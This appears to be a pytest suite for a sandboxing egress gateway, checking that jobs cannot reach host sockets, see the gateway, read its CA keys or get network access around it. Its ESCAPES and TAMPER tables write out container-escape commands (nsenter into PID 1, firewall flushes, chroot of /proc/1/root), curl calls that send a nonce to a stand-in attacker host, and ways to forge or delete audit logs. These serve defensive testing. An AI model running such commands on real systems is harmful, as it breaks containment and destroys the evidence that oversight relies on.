"""The job, root or not, has no way around the gateway and no hand on it."""
from __future__ import annotations

import json
import os
import shlex
import subprocess
from pathlib import Path

import pytest
import yaml

from world import names
from world.homes import BUILDER, ROOT

ALLOW = ["https://echo.example/"]
SOCKETS = ["/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
           "/run/dbus/system_bus_socket", "/run/systemd/private", f"/run/user/{BUILDER.uid}/bus",
           f"/run/user/{BUILDER.uid}/docker.sock"]
CONNECT = ("import socket, sys; s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); s.sendall(b'hello');"
           "print('reached', s.recv(9))")


def with_sockets(world, gateway, user, options, command: str):
    """Runs a job on a machine whose /run is a tmpfs of our own with a listener at each of SOCKETS (a mount namespace)."""
    folder = world.job_folder(user)
    inner = gateway.command(folder, user, ALLOW, None, options) + ["sh", "-c", command]
    listener = (f"import os, socket, threading\n"
                f"def serve(path):\n"
                f"    os.makedirs(os.path.dirname(path), exist_ok=True)\n"
                f"    s = socket.socket(socket.AF_UNIX); s.bind(path); os.chmod(path, 0o777); s.listen()\n"
                f"    def loop():\n"
                f"        while True:\n"
                f"            c, _ = s.accept(); c.recv(9); c.sendall(b'docker'); c.close()\n"
                f"    threading.Thread(target=loop, daemon=True).start()\n"
                f"for path in {[s for s in SOCKETS if s.startswith('/run/')]!r}: serve(path)\n"
                f"open('/run/ready', 'w').close(); threading.Event().wait()\n")
    drop = "" if user.is_root else f"setpriv --reuid={user.uid} --regid={user.gid} --clear-groups "
    script = (f"mount -t tmpfs none /run; chmod 755 /run; /usr/bin/python3 -c {shlex.quote(listener)} & listener=$!; "
              f"while [ ! -e /run/ready ]; do sleep 0.05; done; {drop}{shlex.join(inner)}; code=$?; kill $listener; exit $code")
    done = world.run(["unshare", "-m", "sh", "-c", script], folder, ROOT, {"HOME": str(folder / "home")})
    return done, folder


def test_sockets_that_act_for_somebody_outside_are_masked(world, gateway, user):
    probes = "; ".join(f"/usr/bin/python3 -c {shlex.quote(CONNECT)} {path} 2>&1 | tail -1" for path in SOCKETS)
    done, _ = with_sockets(world, gateway, user, [], probes + "; curl -fsS https://echo.example/control")
    assert "reached" not in done.out and '"target": "/control"' in done.out, done


def test_allowed_socket_is_reached_and_the_report_says_so(world, gateway, user):
    probe = f"/usr/bin/python3 -c {shlex.quote(CONNECT)}"
    done, folder = with_sockets(world, gateway, user, ["--allow-socket", "/run/docker.sock"],
                                f"{probe} /run/docker.sock; {probe} /run/dbus/system_bus_socket 2>&1 | tail -1")
    assert done.out.count("reached") == 1, done
    assert "/run/docker.sock" in json.dumps(json.loads((folder / "gateway" / "report.json").read_text()))


def test_gateway_is_not_visible(world, gateway, user):
    """No process of the gateway's machine is seen, so none can be signalled or traced."""
    done = gateway.run("for p in /proc/[0-9]*; do readlink $p/exe; done; echo; ls -d /proc/[0-9]* | wc -l; "
                       f"kill -0 {os.getpid()} && echo signalled; true", ALLOW, user=user)
    assert "/cofferdam" not in done.out.split("\n\n")[0], done
    assert "signalled" not in done.out, done
    assert int(done.out.strip().splitlines()[-1]) < 10, done


def test_keys_of_the_ca_are_in_memory_that_nobody_else_reads(world, gateway):
    """In no file, open or of the job's folders; and the processes that hold them have no core and no tracer but root."""
    running = gateway.start("curl -fsS -o /dev/null https://echo.example/ && touch started; cat >/dev/null", ALLOW, user=BUILDER,
                            stdin=subprocess.PIPE)
    running.wait_for("started")
    held = [Path(f"/proc/{pid}") for pid in gateway.processes()]
    owners = {(folder / "mem").stat().st_uid for folder in held}
    files = [file for folder in [running.folder, *(folder / "fd" for folder in held)] for file in folder.rglob("*") if file.is_file()]
    with_key = [file for file in files if b"PRIVATE KEY" in file.read_bytes()]
    running.process.communicate(b"", timeout=20)
    assert owners == {0} and files and with_key == []


def test_ids_and_files_are_the_callers(gateway, user):
    done = gateway.run("id -u; id -g; id -un; touch made; mkdir folder; stat -c '%u:%g' made folder", ALLOW, user=user)
    owner = f"{user.uid}:{user.gid}"
    assert done.out.split() == [str(user.uid), str(user.gid), user.name, owner, owner], done
    made = os.stat(done.folder / "work" / "made")
    assert (made.st_uid, made.st_gid) == (user.uid, user.gid)


ESCAPES = {
    "nested namespaces": "unshare -Urn sh -c 'ip link set lo up; {try}'",
    "nested mount and pid": "unshare -Urmpf --mount-proc sh -c '{try}'",
    "nsenter of the first process": "nsenter -t 1 -n sh -c '{try}'",
    "nsenter of every process": "for p in /proc/[0-9]*; do nsenter --net=$p/ns/net sh -c '{try}'; done",
    "nsenter of a named namespace": "for n in /run/netns/* /var/run/netns/*; do nsenter --net=$n sh -c '{try}'; done",
    "flushed rules": "nft flush ruleset; iptables -F; {try}",
    "flushed rules in a nested user namespace": "unshare -Ur sh -c 'nft flush ruleset; {try}'",
    "own routes": "ip route flush table all; ip route add default dev lo; {try}",
    "an interface": "ip link add v0 type veth peer name v1; ip link add d0 type dummy; ip link set d0 up; "
                    "ip addr add 93.184.216.1/24 dev d0; ip route replace default dev d0; ip tuntap add t0 mode tun; {try}",
    "a mark": "/usr/bin/python3 -c \"import socket; s = socket.socket(); s.setsockopt(1, 36, 1); s.settimeout(3); "
              "s.connect(('{attacker}', 80)); s.sendall(b'{nonce}')\"; {try}",
    "bound to a device": "/usr/bin/python3 -c \"import socket; s = socket.socket(); s.setsockopt(1, 25, b'lo'); s.settimeout(3); "
                         "s.connect(('{attacker}', 80)); s.sendall(b'{nonce}')\"; {try}",
    "a chroot of the first process": "chroot /proc/1/root sh -c '{try}'",
    "unmounted masks": "for m in $(cut -d' ' -f5 /proc/self/mountinfo | tac); do umount -l $m; done; {try}",
    "raw frames": "/usr/bin/python3 -c \"import socket; s = socket.socket(17, 3, 0x300); s.bind(('lo', 0x800)); "
                  "s.send(b'{nonce}' * 10)\"; {try}",
}


@pytest.mark.parametrize("way", ESCAPES)
def test_no_way_out(world, gateway, nonce, user, way):
    attempt = (f"curl -s -m 2 http://{names.ATTACKER}/{nonce}; curl -s -m 2 http://{names.DNS}:53/{nonce}; "
               f"dig +tries=1 +time=1 @{names.DNS} {nonce}.test")
    escape = ESCAPES[way].replace("{try}", attempt).replace("{attacker}", names.ATTACKER).replace("{nonce}", nonce)
    since = world.evidence.mark()
    done = gateway.run(f"curl -fsS https://echo.example/control; ({escape}) >/dev/null 2>&1; true", ALLOW, user=user)
    assert '"target": "/control"' in done.out, done
    assert world.traces(nonce) == [], done
    assert not [p for p in world.evidence.packets(since) if p.destination == names.ATTACKER]


def test_inherited_descriptor_is_no_way_out(world, gateway, user, nonce):
    """A socket that the caller left open by mistake is not handed to the job."""
    folder = world.job_folder(user)
    command = gateway.command(folder, user, ALLOW) + ["sh", "-c", f"echo {nonce} >&9; ls -l /proc/self/fd; true"]
    script = (f"import os, socket\ns = socket.create_connection(('{names.ATTACKER}', 80))\nos.dup2(s.fileno(), 9)\n"
              f"os.execv({command[0]!r}, {command!r})")
    done = world.run(["/usr/bin/python3", "-c", script], folder, user)
    assert done.code == 0 and "socket:" not in done.out, done
    assert world.traces(nonce) == []


TAMPER = {
    "append": "echo '{{\"type\":\"forged\"}}' >> {f}", "truncate": ": > {f}",
    "remove": "rm -f {f}", "rename": "mv {f} {f}.old",
    "replace": "echo x > new && mv -f new {f}", "link over": "ln -sf /dev/null {f}", "chmod": "chmod 000 {f}",
    "move the folder": "mv $(dirname {f}) $(dirname {f}).old",
    "unmount": "umount -l {f}; umount -l $(dirname {f}); echo x >> {f}",
    "through proc": "for p in /proc/[0-9]*; do echo x >> $p/root{f}; done",
    "bind mount": "touch own; mount --bind own {f}; echo x >> {f}",
}


@pytest.mark.parametrize("file", ["audit.jsonl", "policy.yaml", "report.json"])
@pytest.mark.parametrize("way", TAMPER)
def test_evidence_cannot_be_changed_from_inside(world, gateway, user, nonce, way, file):
    folder = world.job_folder(user)
    attempt = TAMPER[way].format(f=folder / "gateway" / file)
    policy_before = gateway.policy(ALLOW)
    done = gateway.run(f"curl -s -o /dev/null https://echo.example/{nonce}-before; ({attempt}) 2>/dev/null; "
                       f"curl -s -o /dev/null https://echo.example/{nonce}-after; true", ALLOW, user=user, folder=folder)
    assert len(done.about(f"{nonce}-before", "http")) == len(done.about(f"{nonce}-after", "http")) == 1, done
    assert [r["type"] for r in done.records][0::len(done.records) - 1] == ["job", "job"], "whole, from start to end"
    assert not [r for r in done.records if r["type"] == "forged"]
    assert json.loads(done.report.read_text())
    assert yaml.safe_load((folder / "gateway" / "policy.yaml").read_text()) == policy_before


def test_job_cannot_talk_to_the_gateways_own_ports(world, gateway, nonce):
    """Everything that listens in the job's namespace is dialled directly: no loop, no metrics, no open resolver."""
    done = gateway.run("ss -Hltn | awk '{print $4}' | while read where; do echo port $where; "
                       f"curl -s -m 2 -H 'Host: denied.example' http://$where/{nonce}; done;"
                       "curl -fsS https://echo.example/control", ALLOW)
    assert '"target": "/control"' in done.out and world.traces(nonce) == [], done
    assert "cofferdam_" not in done.out
